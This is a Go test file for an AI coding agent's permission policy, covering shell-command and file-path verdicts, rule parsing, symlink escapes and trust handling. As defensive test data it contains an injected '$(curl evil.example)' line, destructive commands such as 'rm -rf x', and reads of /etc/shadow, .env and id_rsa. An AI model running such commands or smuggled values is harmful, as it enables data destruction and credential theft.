package tools_test

import (
	"bufio"
	"context"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/agent-lsp/agent-lsp/tools"
	"github.com/agent-lsp/agent-lsp/tools/toolstest"
)

func policy(t testing.TB, rules ...string) tools.Policy {
	t.Helper()
	p := tools.Policy{Rules: tools.Defaults(), Trusted: true, Roots: []string{"/ws"}, Temp: []string{"/tmp"}, Home: "/home/me"}
	for _, s := range rules {
		r, err := tools.ParseRule(s, tools.SourceUser)
		if err != nil {
			t.Fatal(err)
		}
		p = p.With(r)
	}
	return p
}

// TestCommandTables runs testdata/permissions/*.txt: `rule …` lines, then
// `allow|ask|deny COMMAND` (\n is a line break, \xNN a byte).
func TestCommandTables(t *testing.T) {
	files, err := filepath.Glob("testdata/permissions/*.txt")
	if err != nil || len(files) == 0 {
		t.Fatalf("no tables: %v", err)
	}
	cases := 0
	for _, file := range files {
		t.Run(strings.TrimSuffix(filepath.Base(file), ".txt"), func(t *testing.T) {
			f, err := os.Open(file)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			p := policy(t)
			for in := bufio.NewScanner(f); in.Scan(); {
				what, rest, _ := strings.Cut(in.Text(), " ")
				rest = strings.TrimSpace(rest)
				switch what {
				case "#":
				case "rule":
					r, err := tools.ParseRule(rest, tools.SourceUser)
					if err != nil {
						t.Fatal(err)
					}
					p = p.With(r)
				default:
					cases++
					line := strings.NewReplacer(`\n`, "\n", `\x01`, "\x01").Replace(rest)
					d := tools.Decide(p, tools.Request{Tool: "bash", Builtin: true, Command: line})
					if string(d.Verdict) != what {
						t.Errorf("%s: got %s (%s), want %s; %+v", rest, d.Verdict, d.Why, what, tools.ParseShell(line))
					}
				}
			}
		})
	}
	if cases < 300 {
		t.Errorf("only %d cases ran", cases)
	}
}

func TestPaths(t *testing.T) {
	in := func(p string) tools.Target {
		return tools.Target{Path: p, Abs: "/ws/" + p, Secret: tools.SecretPath(p)}
	}
	out := func(p string) tools.Target {
		return tools.Target{Path: p, Abs: p, Outside: true, Secret: tools.SecretPath(p)}
	}
	ignored := tools.Target{Path: "dist/x.js", Abs: "/ws/dist/x.js", Ignored: true}
	for _, tc := range []struct {
		rules  string
		tool   string
		target tools.Target
		want   tools.Verdict
	}{
		{"", "read", in("a.go"), tools.Allow},
		{"", "edit", in("a.go"), tools.Allow},
		{"", "write", in("new/a.go"), tools.Allow},
		{"", "read", out("/etc/passwd"), tools.Ask},
		{"", "write", out("/etc/passwd"), tools.Ask},
		{"", "ls", out("/"), tools.Ask},
		{"", "read", in(".env"), tools.Ask},
		{"", "read", in("sub/id_rsa"), tools.Ask},
		{"", "edit", in(".env"), tools.Ask},
		{"", "read", ignored, tools.Ask},
		{"", "write", in(".git/hooks/pre-commit"), tools.Ask},
		{"", "edit", in("vendor/x/.git/config"), tools.Ask},
		{"", "write", in(".agent-lsp.toml"), tools.Ask},
		{"", "write", in(".agent-lsp/commands/x.md"), tools.Ask},
		{"", "read", in(".git/config"), tools.Allow},
		{"read(**) = allow", "read", in(".env"), tools.Ask},
		{"read(*) = allow", "read", out("/etc/passwd"), tools.Ask},
		{"read = allow", "read", ignored, tools.Ask},
		{"read(dist/**) = allow", "read", ignored, tools.Allow},
		{"read(.env) = allow", "read", in(".env"), tools.Allow},
		{"read(.env) = allow", "read", in("sub/.env"), tools.Allow},
		{"read(/.env) = allow", "read", in("sub/.env"), tools.Ask},
		{"read(*.pem) = allow", "read", in("x.pem"), tools.Allow},
		{"read(conf/*) = allow", "read", in("conf/x.pem"), tools.Ask},
		{"read(/etc/*) = allow", "read", out("/etc/passwd"), tools.Allow},
		{"read(/etc/*) = allow", "read", out("/etc/ssl/x"), tools.Ask},
		{"read(/etc/**) = allow", "read", out("/etc/shadow"), tools.Ask},
		{"read(etc/*) = allow", "read", out("/etc/passwd"), tools.Ask},
		{"read(~/notes/**) = allow", "read", out("/home/me/notes/x"), tools.Allow},
		{"read(~/notes/**) = allow", "read", out("/home/you/notes/x"), tools.Ask},
		{"edit(gen/**) = deny", "edit", in("gen/a.go"), tools.Deny},
		{"edit(gen/**) = deny", "write", in("gen/a.go"), tools.Allow},
		{"edit(gen/**) = deny;edit(gen/a.go) = allow", "edit", in("gen/a.go"), tools.Deny},
		{"edit(gen/**) = ask;edit(gen/a.go) = allow", "edit", in("gen/a.go"), tools.Allow},
		{"edit(gen/**) = ask;edit(gen/a.go) = allow", "edit", in("gen/b.go"), tools.Ask},
		{"edit = ask", "edit", in("a.go"), tools.Ask},
		{"*(*.lock) = deny", "edit", in("a.lock"), tools.Allow}, // patterns of paths need their tool
		{"read(*.txt) = deny", "read", out("/x/y.txt"), tools.Deny},
		{"write(.git/**) = allow", "write", in(".git/config"), tools.Allow},
		{"write = allow", "write", in(".git/config"), tools.Ask},
	} {
		var rules []string
		if tc.rules != "" {
			rules = strings.Split(tc.rules, ";")
		}
		d := tools.Decide(policy(t, rules...), tools.Request{Tool: tc.tool, Builtin: true, Targets: []tools.Target{tc.target}})
		if d.Verdict != tc.want {
			t.Errorf("%s; %s %s: got %s (%s), want %s", tc.rules, tc.tool, tc.target.Path, d.Verdict, d.Why, tc.want)
		}
		if d.Verdict == tools.Ask && len(d.Suggest) > 0 {
			again := tools.Decide(policy(t, append(rules, d.Suggest...)...), tools.Request{Tool: tc.tool, Builtin: true, Targets: []tools.Target{tc.target}})
			if again.Verdict != tools.Allow {
				t.Errorf("%s %s: the offered %s doesn't allow it: %s", tc.tool, tc.target.Path, d.Suggest, again.Why)
			}
		}
	}
}

func TestPlanningAndTrust(t *testing.T) {
	user := func(s string) tools.Rule { return rule(t, s, tools.SourceUser) }
	ws := func(s string) tools.Rule { return rule(t, s, tools.SourceWorkspace) }
	answer := func(s string) tools.Rule { return rule(t, s, tools.SourceAnswer) }
	read := tools.Request{Tool: "read", ReadOnly: true, Builtin: true, Targets: []tools.Target{{Path: "a"}}}
	edit := tools.Request{Tool: "edit", Builtin: true, Targets: []tools.Target{{Path: "a"}}}
	bash := tools.Request{Tool: "bash", Builtin: true, Command: "go test ./..."}
	mcp := tools.Request{Tool: "mcp_x_get", ReadOnly: true, Subject: "y"}
	for _, tc := range []struct {
		name              string
		planning, trusted bool
		rules             []tools.Rule
		req               tools.Request
		want              tools.Verdict
	}{
		{"planning reads", true, true, nil, read, tools.Allow},
		{"planning doesn't edit", true, true, []tools.Rule{user("edit = allow")}, edit, tools.Deny},
		{"planning doesn't run", true, true, []tools.Rule{user("bash = allow")}, bash, tools.Deny},
		{"planning believes no stranger", true, true, []tools.Rule{user("mcp_x_get = allow")}, mcp, tools.Deny},
		{"a stranger asks", false, true, nil, mcp, tools.Ask},
		{"a stranger allowed", false, true, []tools.Rule{user("mcp_x_* = allow")}, mcp, tools.Allow},
		{"a stranger allowed for a subject", false, true, []tools.Rule{user("mcp_x_get(y) = allow")}, mcp, tools.Allow},
		{"and for another", false, true, []tools.Rule{user("mcp_x_get(z*) = allow")}, mcp, tools.Ask},
		{"trusted workspace's rules", false, true, []tools.Rule{ws("bash(go test *) = allow")}, bash, tools.Allow},
		{"untrusted workspace's rules", false, false, []tools.Rule{ws("bash(go test *) = allow")}, bash, tools.Ask},
		{"untrusted workspace's denials hold", false, false, []tools.Rule{ws("bash(go *) = deny")}, bash, tools.Deny},
		{"untrusted runs nothing by the user's rules", false, false, []tools.Rule{user("bash(go test *) = allow")}, bash, tools.Ask},
		{"untrusted runs what was answered", false, false, []tools.Rule{answer("bash(go test *) = allow")}, bash, tools.Allow},
		{"untrusted edits under review", false, false, nil, edit, tools.Allow},
		{"the user's rule after the default", false, true, []tools.Rule{user("edit = ask")}, edit, tools.Ask},
		{"the workspace's after the user's", false, true, []tools.Rule{user("edit = ask"), ws("edit = allow")}, edit, tools.Allow},
	} {
		p := policy(t).With(tc.rules...)
		p.Planning, p.Trusted = tc.planning, tc.trusted
		if d := tools.Decide(p, tc.req); d.Verdict != tc.want {
			t.Errorf("%s: got %s (%s), want %s", tc.name, d.Verdict, d.Why, tc.want)
		}
	}
}

func rule(t testing.TB, s string, from tools.Source) tools.Rule {
	t.Helper()
	r, err := tools.ParseRule(s, from)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func TestSuggestions(t *testing.T) {
	for line, want := range map[string]string{
		"go build ./...":                   "bash(go build *) = allow",
		"go test -run X ./pkg":             "bash(go test *) = allow",
		"go run ./cmd/x":                   "",
		"go mod tidy":                      "bash(go mod tidy *) = allow",
		"npm run test:unit -- x":           "bash(npm run test:unit *) = allow",
		"npm install x":                    "",
		"git status":                       "bash(git status *) = allow",
		"git push":                         "",
		"git reset --hard":                 "",
		"ls -l src":                        "bash(ls *) = allow",
		"cat /etc/hosts":                   "bash(cat /etc/hosts) = allow",
		"cat .env":                         "",
		"./scripts/build.sh --fast 'a b'":  "bash(./scripts/build.sh --fast 'a b') = allow",
		"./x it\\'s":                       `bash(./x 'it'\''s') = allow`,
		"./run /tmp/x.123/out":             "",
		"./attach 48213":                   "",
		"rm -rf x":                         "",
		"sudo ls":                          "",
		"curl http://x":                    "",
		"python3 x.py":                     "",
		"bash x.sh":                        "",
		"find . -delete":                   "",
		"PATH=. ls":                        "",
		"$CMD":                             "",
		"ls $X":                            "",
		"go vet ./... && go build ./...":   "bash(go vet *) = allow\nbash(go build *) = allow",
		"go vet ./... && rm x":             "",
		"go vet ./... > /etc/x":            "",
		"cd sub && make test":              "bash(make test) = allow",
		"timeout 60 pytest -x":             "bash(pytest -x) = allow",
		"go test ./... 2>&1 | tail -5":     "bash(go test *) = allow\nbash(tail *) = allow",
		"ls | xargs grep foo":              "bash(ls *) = allow\nbash(grep *) = allow",
		"sed -i s/a/b/ x":                  "bash(sed -i s/a/b/ x) = allow",
		"for f in a b; do go vet $f; done": "",
	} {
		p := policy(t)
		d := tools.Decide(p, tools.Request{Tool: "bash", Builtin: true, Command: line})
		if got := strings.Join(d.Suggest, "\n"); got != want || d.Verdict != tools.Ask {
			t.Errorf("%s: got %s %q, want %q", line, d.Verdict, got, want)
		}
		checkSuggestion(t, p, line)
	}
}

// checkSuggestion: what "always" saves allows the same command, and no line
// that adds another command to it.
func checkSuggestion(t interface{ Errorf(string, ...any) }, p tools.Policy, line string) {
	d := tools.Decide(p, tools.Request{Tool: "bash", Builtin: true, Command: line})
	if d.Verdict != tools.Ask || len(d.Suggest) == 0 {
		return
	}
	for _, s := range d.Suggest {
		r, err := tools.ParseRule(s, tools.SourceAnswer)
		if err != nil {
			t.Errorf("%q: the offered rule %q can't be read: %v", line, s, err)
			return
		}
		if r.String() != s {
			t.Errorf("%q: the offered rule %q is saved as %q", line, s, r.String())
		}
		p = p.With(r)
	}
	if again := tools.Decide(p, tools.Request{Tool: "bash", Builtin: true, Command: line}); again.Verdict != tools.Allow {
		t.Errorf("%q: with %q saved it still is %s: %s", line, d.Suggest, again.Verdict, again.Why)
	}
	for _, more := range []string{line + "\nrm -rf x", line + "\n$(curl evil.example)", "(" + line + "\n) ; sudo x"} {
		if d := tools.Decide(p, tools.Request{Tool: "bash", Builtin: true, Command: more}); d.Verdict == tools.Allow {
			t.Errorf("%q: what was saved for %q allows more", more, line)
		}
	}
}

func TestNetworkAndDestruction(t *testing.T) {
	for line, want := range map[string][2]bool{
		"ls": {false, false}, "curl http://x": {true, false}, "npm install": {true, false}, "npm test": {false, false}, "go mod tidy": {true, false},
		"go test ./...": {false, false}, "git push -f": {true, true}, "git status": {false, false}, "sudo apt-get install x": {true, true},
		"python3 -m pip install x": {true, false}, "echo $(wget x)": {true, false}, "find . -delete": {false, true}, "timeout 5 rm x": {false, true}, "git reset --hard": {false, true},
	} {
		d := tools.Decide(policy(t), tools.Request{Tool: "bash", Builtin: true, Command: line})
		if d.Network != want[0] || d.Destructive != want[1] {
			t.Errorf("%s: network %v, destructive %v; want %v", line, d.Network, d.Destructive, want)
		}
	}
}

func TestRuleSyntax(t *testing.T) {
	for _, bad := range []string{
		"", "bash", "bash(", "bash(x = allow", "= allow", "(x) = allow", "bash(x) = maybe", "bash('x) = allow", `bash(x\) = allow`, "read([) = allow", "a b = allow",
		"bash(" + strings.Repeat("x", 5000) + ") = allow", "read({a) = deny",
	} {
		if r, err := tools.ParseRule(bad, tools.SourceUser); err == nil {
			t.Errorf("%q was taken as %v", clipped(bad), r)
		}
	}
	for in, want := range map[string]string{
		"bash(a = b) = deny": "bash(a = b) = deny", " read ( *.md )= ask ": "read(*.md) = ask", "bash(*)=allow": "bash = allow", "mcp_*=deny": "mcp_* = deny",
		"bash(echo (x)) = ask": "bash(echo (x)) = ask",
	} {
		if r := rule(t, in, tools.SourceUser); r.String() != want {
			t.Errorf("%q became %q, want %q", in, r.String(), want)
		}
	}
}

func clipped(s string) string { return s[:min(len(s), 60)] }

// TestSymlinks: where a link leads is where a path is.
func TestSymlinks(t *testing.T) {
	root, outside := tools.ResolveLinks(t.TempDir()), tools.ResolveLinks(t.TempDir())
	if err := os.Mkdir(filepath.Join(root, "sub"), 0o755); err != nil {
		t.Fatal(err)
	}
	for link, to := range map[string]string{"out": outside, "sub/up": "../..", "in": "sub", "loop": "loop", "chain": "out"} {
		if err := os.Symlink(to, filepath.Join(root, link)); err != nil {
			t.Skipf("no links here: %v", err)
		}
	}
	locate := tools.LocateIn([]string{root})
	for p, want := range map[string]bool{
		"a": false, "sub/x/y": false, "in/x": false, "out": true, "out/x/y": true, "chain/x": true, "sub/up/x": true, "in/up": true, "../x": true, "out/..": true,
		"sub/..": false, "sub/../../x": true, "/etc/passwd": true, filepath.Join(root, "a"): false, "in/../a": false, "loop/x": false, "": false, ".": false,
	} {
		if got := locate(p); got.Outside != want {
			t.Errorf("%q: %+v, want outside %v", p, got, want)
		}
	}
	p := policy(t, "bash(echo *) = allow", "bash(cat *) = allow", "bash(ls *) = allow")
	p.Roots, p.Temp, p.Resolve = []string{root}, nil, tools.ResolveLinks
	for line, want := range map[string]tools.Verdict{
		"echo x > sub/f": tools.Allow, "echo x > out/f": tools.Ask, "cat out/f": tools.Ask, "cat in/f": tools.Allow, "cd out && ls": tools.Ask,
		"cd sub && cat up/f": tools.Ask, "cd in && ls": tools.Allow, "echo x > chain": tools.Ask, "cat out": tools.Ask,
	} {
		if d := tools.Decide(p, tools.Request{Tool: "bash", Builtin: true, Command: line}); d.Verdict != want {
			t.Errorf("%s: got %s (%s), want %s", line, d.Verdict, d.Why, want)
		}
	}
}

// TestTemporaryWorkspace: beside a workspace in the temporary folder nothing
// is temporary.
func TestTemporaryWorkspace(t *testing.T) {
	p := policy(t, "bash(echo *) = allow")
	p.Roots = []string{"/tmp/x/ws"}
	for line, want := range map[string]tools.Verdict{
		"echo x > f": tools.Allow, "echo x > ../f": tools.Ask, "echo x > /tmp/x/f": tools.Ask, "echo x > /tmp/f": tools.Ask, "echo x > /tmp/x/ws/f": tools.Allow,
	} {
		if d := tools.Decide(p, tools.Request{Tool: "bash", Builtin: true, Command: line}); d.Verdict != want {
			t.Errorf("%s: got %s (%s), want %s", line, d.Verdict, d.Why, want)
		}
	}
}

func TestAuthorize(t *testing.T) {
	spec := tools.Bash().Spec()
	args := []byte(`{"command":"go build ./..."}`)
	locate := tools.LocateIn([]string{"/ws"})
	ask := func(env tools.Env, ctx context.Context) tools.Permit {
		return tools.Authorize(ctx, env, policy(t), spec, "go build ./...", args, locate)
	}
	nobody := ask(tools.Env{}, context.Background())
	if nobody.Allowed || !nobody.Refusal.Detail.Blocked || !strings.Contains(nobody.Refusal.Text, "nobody to ask") {
		t.Errorf("with nobody to ask: %+v", nobody)
	}
	asker := &toolstest.Asker{Answers: []tools.Answer{{Allow: true, Always: true}, {Allow: true}, {Reason: "use make"}}}
	env := tools.Env{CallID: "c1", Asker: asker}
	always := ask(env, context.Background())
	if !always.Allowed || len(always.Save) != 1 || always.Save[0].String() != "bash(go build *) = allow" || always.Save[0].Source != tools.SourceAnswer {
		t.Errorf("always: %+v", always)
	}
	if q := asker.Asked[0]; q.Rule != "bash(go build *) = allow" || q.CallID != "c1" || !strings.Contains(q.Detail, "go build ./...") {
		t.Errorf("the question was %+v", q)
	}
	if once := ask(env, context.Background()); !once.Allowed || len(once.Save) != 0 {
		t.Errorf("once: %+v", once)
	}
	if no := ask(env, context.Background()); no.Allowed || no.Refusal.Detail.Refused != "the person said no: use make" {
		t.Errorf("no: %+v", no)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if gone := ask(env, ctx); gone.Allowed || gone.Refusal.Status != tools.StatusCancelled {
		t.Errorf("cancelled: %+v", gone)
	}
	read := tools.Authorize(context.Background(), tools.Env{}, policy(t), tools.Read().Spec(), "", []byte(`{"path":"../x"}`), locate)
	if read.Allowed {
		t.Errorf("outside: %+v", read)
	}
	if ok := tools.Authorize(context.Background(), tools.Env{}, policy(t), tools.Ls().Spec(), "", []byte(`{}`), locate); !ok.Allowed {
		t.Errorf("ls: %+v", ok)
	}
}

// FuzzDecide: any text as a command or a rule gives a decision; nothing is
// allowed by default; what "always" would save allows the command and no more.
func FuzzDecide(f *testing.F) {
	files, _ := filepath.Glob("testdata/permissions/*.txt")
	for _, file := range files {
		b, err := os.ReadFile(file)
		if err != nil {
			f.Fatal(err)
		}
		for line := range strings.Lines(string(b)) {
			_, line, _ = strings.Cut(strings.TrimSpace(line), " ")
			f.Add(strings.TrimSpace(line), "bash(git *) = allow")
		}
	}
	f.Fuzz(func(t *testing.T, line, s string) {
		if d := tools.Decide(policy(t), tools.Request{Tool: "bash", Builtin: true, Command: line}); d.Verdict == tools.Allow {
			t.Errorf("%s is allowed by default: %s", strconv.Quote(line), d.Why)
		}
		p := policy(t)
		if r, err := tools.ParseRule(s, tools.SourceUser); err == nil {
			again, err := tools.ParseRule(r.String(), tools.SourceUser)
			if err != nil || again.String() != r.String() {
				t.Errorf("%q is written as %q, which is %v, %v", s, r, again, err)
			}
			if r.Verdict != tools.Allow {
				p = p.With(r)
			}
		}
		checkSuggestion(t, p, line)
	})
}

// TestMoreRulesNeverLoosen: adding a deny or an ask never turns a verdict
// towards allow.
func TestRestrictingNeverLoosens(t *testing.T) {
	word := rapid.SampledFrom([]string{"git", "ls", "rm", "push", "-f", "*", "$X", "x", "status", "xargs", "sudo", "a/b", "../x"})
	join := func(ws []string) string { return strings.Join(ws, " ") }
	rapid.Check(t, func(t *rapid.T) {
		p := tools.Policy{Rules: tools.Defaults(), Trusted: true, Roots: []string{"/ws"}, Home: "/home/me"}
		for range rapid.IntRange(0, 4).Draw(t, "rules") {
			verdict := rapid.SampledFrom([]string{"allow", "allow", "ask", "deny"}).Draw(t, "verdict")
			if r, err := tools.NewRule("bash("+join(rapid.SliceOfN(word, 1, 3).Draw(t, "pattern"))+")", verdict, tools.SourceUser); err == nil {
				p = p.With(r)
			}
		}
		line := join(rapid.SliceOfN(word, 1, 5).Draw(t, "line"))
		before := tools.Decide(p, tools.Request{Tool: "bash", Builtin: true, Command: line})
		r, err := tools.NewRule("bash("+join(rapid.SliceOfN(word, 1, 3).Draw(t, "deny"))+")", "deny", tools.SourceUser)
		if err != nil {
			t.Skip()
		}
		after := tools.Decide(p.With(r), tools.Request{Tool: "bash", Builtin: true, Command: line})
		order := map[tools.Verdict]int{tools.Allow: 0, tools.Ask: 1, tools.Deny: 2}
		if order[after.Verdict] < order[before.Verdict] {
			t.Fatalf("%q: %s became %s with %s", line, before.Verdict, after.Verdict, r)
		}
	})
}
